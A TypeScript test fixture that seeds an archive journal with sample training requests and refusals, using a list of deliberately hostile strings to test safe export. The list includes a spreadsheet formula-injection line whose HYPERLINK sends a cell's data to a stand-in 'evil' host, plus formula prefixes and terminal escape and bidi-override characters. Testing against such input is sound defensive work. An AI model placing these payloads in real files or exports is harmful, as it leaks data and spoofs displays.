import type { Journal } from '../../src/archive/journal-port';
import { confirmed, event, move, NOON, newRequest, planned, refusal } from '../journal/builders';

const DAY = 24 * 3_600_000;

/** Texts that break tables, files, terminals and spreadsheets. */
export const NASTY = [
  '=HYPERLINK("http://evil/?"&A1,"click")',
  ' \t@SUM(1)',
  "'+1",
  'a "quoted", and\r\na second line',
  '\u001b[2J\u202eevil\u2028next',
  'Обучение №5 👩‍👩‍👧‍👦',
  '',
];

/** Four requests of two people, in three states, over three days; and two refusals. */
export async function fill(journal: Journal): Promise<void> {
  const name = NASTY[0] as string;
  const training = {
    id: '11',
    projectId: '1',
    name,
    status: 'CLOSED',
    lastCloseReason: null,
    created: NOON,
    url: '',
  };
  const plan = { ...newRequest('done').plan, training, projectName: 'P' };
  let done = await confirmed(journal, 'done', { trainingId: '11', plan }, { reason: NASTY[3] as string });
  for (const state of ['submitting', 'running', 'succeeded'] as const)
    done = await move(journal, done, state, {
      event: event(state === 'running' ? 'accepted' : state, {
        actor: 'app',
        detail: { operationId: 'op-1' },
      }),
      patch: { operationId: 'op-1', ...(state === 'succeeded' ? { finishedAt: NOON + 9 } : {}) },
    });
  await confirmed(journal, 'open', {
    trainingId: '12',
    createdAt: NOON + DAY,
    requester: 'U2',
    channel: 'C2',
  });
  const outcome = { code: 'x', message: NASTY[4] as string };
  const refused = await confirmed(journal, 'not', {
    trainingId: '13',
    environment: 'sandbox',
    createdAt: NOON + DAY,
  });
  await move(journal, refused, 'not_started', {
    patch: { outcome },
    event: event('not_started', { actor: 'U7', detail: outcome }),
  });
  await planned(journal, 'seen', { trainingId: '11', createdAt: NOON + 2 * DAY });
  await journal.refuse(
    refusal('r1', { message: NASTY[1] as string, trainingId: '11', environment: 'production' }),
  );
  await journal.refuse(refusal('r2', { at: NOON + DAY, user: 'U3' }));
}
